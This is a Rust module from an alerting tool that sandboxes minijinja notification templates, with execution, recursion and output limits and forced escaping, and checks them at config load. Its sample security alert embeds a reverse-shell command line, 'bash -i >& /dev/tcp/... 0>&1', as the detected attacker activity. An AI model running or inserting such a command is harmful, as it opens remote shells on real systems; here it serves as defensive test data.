//! The pure part of contact templates (minijinja): the sandbox, the
//! variables a template sees, and the check run at config load. A leaf:
//! it knows events and domain types only, so `config` can check templates
//! without importing `notify`, which renders them for each platform
//! (`notify::template`, with the platform's escape).
//!
//! Sandbox: a fresh environment per render with a fuel (execution) limit, a
//! recursion limit, a cap on the output, strict undefined variables, and no
//! way to mark event text as safe: every value a template prints goes
//! through the given escape, whatever the template says.

use crate::domain::{Level, MessageKind};
use crate::event::{Event, Format, event_link};
use minijinja::value::Value as JValue;
use minijinja::{AutoEscape, Environment, Error, ErrorKind, UndefinedBehavior};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Execution limit of one render.
pub const FUEL: u64 = 50_000;
/// Nesting limit (loops, macros, includes).
pub const RECURSION_LIMIT: usize = 32;
/// Most bytes a template may print (before the platform's own budget).
pub const OUTPUT_MAX: usize = 64 * 1024;
/// Longest template accepted in the config.
pub const SOURCE_MAX: usize = 16 * 1024;

/// The sandboxed environment; `escape` is applied to every value printed
/// that the template did not produce itself.
pub fn sandbox(escape: fn(&str) -> String) -> Environment<'static> {
    let mut env = Environment::new();
    env.set_debug(false);
    env.set_fuel(Some(FUEL));
    env.set_recursion_limit(RECURSION_LIMIT);
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_auto_escape_callback(|_| AutoEscape::Custom("tocsin".into()));
    let written = Arc::new(AtomicUsize::new(0));
    // The escape whatever the template says (`autoescape false`
    // changes nothing); only text the template itself produced is safe.
    env.set_formatter(move |out, _state, value| {
        let text = if value.is_safe() {
            value.as_str().unwrap_or_default().to_string()
        } else if value.is_none() || value.is_undefined() {
            return Ok(());
        } else {
            match value.as_str() {
                Some(s) => escape(s),
                None => escape(&value.to_string()),
            }
        };
        let total = written.fetch_add(text.len(), Ordering::Relaxed) + text.len();
        if total > OUTPUT_MAX {
            return Err(Error::new(
                ErrorKind::InvalidOperation,
                format!("the output is over {} KiB", OUTPUT_MAX / 1024),
            ));
        }
        out.write_str(&text).map_err(Error::from)
    });
    // No way to mark event text as safe: these return plain strings, which
    // the formatter escapes.
    for name in ["safe", "escape", "e"] {
        env.add_filter(name, |v: JValue| -> String {
            v.as_str().map_or_else(|| v.to_string(), str::to_string)
        });
    }
    env
}

/// An event's fields as templates see them: the native JSON form, with the
/// optional fields present (null when unknown).
fn event_value(e: &Event) -> Value {
    let mut v = e.to_native_json();
    if let Some(m) = v.as_object_mut() {
        for k in [
            "severity", "status", "resource", "instance", "region", "group",
        ] {
            m.entry(k).or_insert(Value::Null);
        }
    }
    v
}

/// What a template's variables are made of.
pub struct Vars<'a> {
    pub kind: MessageKind,
    /// The contact's name, language (`en`, `zh`) and time zone.
    pub contact: &'a str,
    pub lang: &'a str,
    pub timezone: &'a str,
    pub subscriptions: &'a [String],
    pub events: &'a [Arc<Event>],
    /// `server.public_url`: `link` points at the event there.
    pub public_url: Option<&'a str>,
}

/// The variables of a template.
pub fn context(v: &Vars<'_>) -> Value {
    let first = v.events.first();
    let level = v
        .events
        .iter()
        .map(|e| e.level)
        .max()
        .unwrap_or(Level::Info);
    json!({
        "event": first.map(|e| event_value(e)),
        "events": v.events.iter().map(|e| event_value(e)).collect::<Vec<_>>(),
        "count": v.events.len(),
        "level": level.as_str(),
        "kind": v.kind.as_str(),
        "contact": v.contact,
        "subscriptions": v.subscriptions,
        "lang": v.lang,
        "time": first.map(|e| crate::timefmt::local_time(e.time_ms, v.timezone)),
        "link": first.and_then(|e| event_link(v.public_url, e)),
    })
}

/// The template's variables as minijinja values. `link` is Tocsin's own
/// (from `server.public_url`, the event id percent-encoded), so it is marked
/// safe: printed as is, it stays a working link.
pub fn values(v: &Vars<'_>) -> JValue {
    let link = v
        .events
        .first()
        .and_then(|e| event_link(v.public_url, e))
        .map_or(JValue::from(()), JValue::from_safe_string);
    minijinja::context! {
        link => link,
        ..JValue::from(minijinja::value::Serde(context(v)))
    }
}

/// Plain words for a template error, with the template's line.
pub fn describe(e: &Error, source: &str) -> String {
    let snippet = e
        .range()
        .and_then(|r| source.get(r))
        .map(|s| s.trim())
        .filter(|s| !s.is_empty() && s.len() <= 80 && !s.contains('\n'));
    let what = match e.kind() {
        ErrorKind::OutOfFuel => {
            "it ran out of fuel (the execution limit): it does too much work".to_string()
        }
        ErrorKind::UndefinedError => match (snippet, e.detail()) {
            (Some(s), _) => format!("undefined variable or attribute in `{s}`"),
            (None, Some(d)) => format!("undefined variable or attribute: {d}"),
            (None, None) => "undefined variable or attribute".to_string(),
        },
        kind => match e.detail() {
            Some(d) => format!("{kind}: {d}"),
            None => kind.to_string(),
        },
    };
    match e.line() {
        Some(l) => format!("{what} (at its line {l})"),
        None => what,
    }
}

/// A problem found when checking a template at config load.
#[derive(Clone, Debug, PartialEq)]
pub struct Problem {
    /// The template's own line (1-based), when known.
    pub line: Option<usize>,
    pub message: String,
}

/// A realistic single alert (Alibaba Cloud Security Center) for checking
/// templates at load.
pub fn sample_event() -> Event {
    let content = json!({
        "alarmEventName": "Reverse shell",
        "alarmEventType": "Process anomaly",
        "alarmUniqueInfo": "6b1f3c2e9a7d4e0f8c5b",
        "instanceName": "web-prod-01",
        "intranetIp": "10.0.3.17",
        "internetIp": "47.96.12.34",
        "uuid": "inst-9f8e7d6c",
        "level": "serious",
        "desc": "A process opened a reverse shell to an external host",
        "details": [
            {"name": "Command line", "value": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
            {"name": "Parent process", "value": "/usr/sbin/nginx"},
            {"name": "User", "value": "www-data"}
        ]
    });
    Event {
        id: "0190f3a2-6d1e-7c4b-9a2f-3e5d7c9b1a20".into(),
        product: "sas".into(),
        event_type: "sas:alert".into(),
        name: "Sas:SecurityAlert".into(),
        level: Level::Critical,
        severity: Some("serious".into()),
        status: Some("unhandled".into()),
        resource: Some("acs:ecs:cn-hangzhou:1234567890:instance/i-bp1example".into()),
        instance: Some("web-prod-01".into()),
        region: Some("cn-hangzhou".into()),
        group: Some("web".into()),
        time_ms: 1_717_000_000_000,
        received_ms: 1_717_000_001_000,
        content: content.clone(),
        format: Format::Native,
        raw: content,
        state: crate::event::EventState::Firing,
        identity_key: None,
    }
}

/// Compiles a template, then renders it once against a sample alert with
/// strict undefined variables, as contact `contact` (its `lang` and
/// `timezone`) would. Values are not escaped here: the platform's escape
/// changes how they look, not whether the template renders (the output cap
/// is enforced again when sending, where a failure falls back to the
/// built-in message).
pub fn check(source: &str, contact: &str, lang: &str, timezone: &str) -> Result<(), Problem> {
    if source.len() > SOURCE_MAX {
        return Err(Problem {
            line: None,
            message: format!("the template is over {} KiB", SOURCE_MAX / 1024),
        });
    }
    let env = sandbox(str::to_string);
    if let Err(e) = env.template_from_str(source) {
        let detail = e.detail().unwrap_or("cannot parse it").to_string();
        return Err(Problem {
            line: e.line(),
            message: match e.line() {
                Some(l) => format!("syntax error in the template at its line {l}: {detail}"),
                None => format!("syntax error in the template: {detail}"),
            },
        });
    }
    let events = [Arc::new(sample_event())];
    let subs = ["sample-subscription".to_string()];
    let vars = Vars {
        kind: MessageKind::Single,
        contact,
        lang,
        timezone,
        subscriptions: &subs,
        events: &events,
        public_url: Some("https://tocsin.example.com"),
    };
    match env.render_str(source, values(&vars)) {
        Ok(_) => Ok(()),
        Err(e) => Err(Problem {
            line: e.line(),
            message: format!(
                "the template fails on a sample alert: {}",
                describe(&e, source)
            ),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn check_reports_syntax_and_unknown_variables() {
        let check = |s: &str| check(s, "c", "en", "Asia/Shanghai");
        let p = check("a\nb\n{% if %}").unwrap_err();
        assert_eq!(p.line, Some(3));
        assert!(
            p.message
                .contains("syntax error in the template at its line 3"),
            "{}",
            p.message
        );
        let p = check("{{ event.nmae }}").unwrap_err();
        assert!(p.message.contains("undefined"), "{}", p.message);
        check("**{{ event.name }}** on {{ event.content.instanceName }} at {{ time }}{% if link %} [view]({{ link }}){% endif %}").unwrap();
    }
}
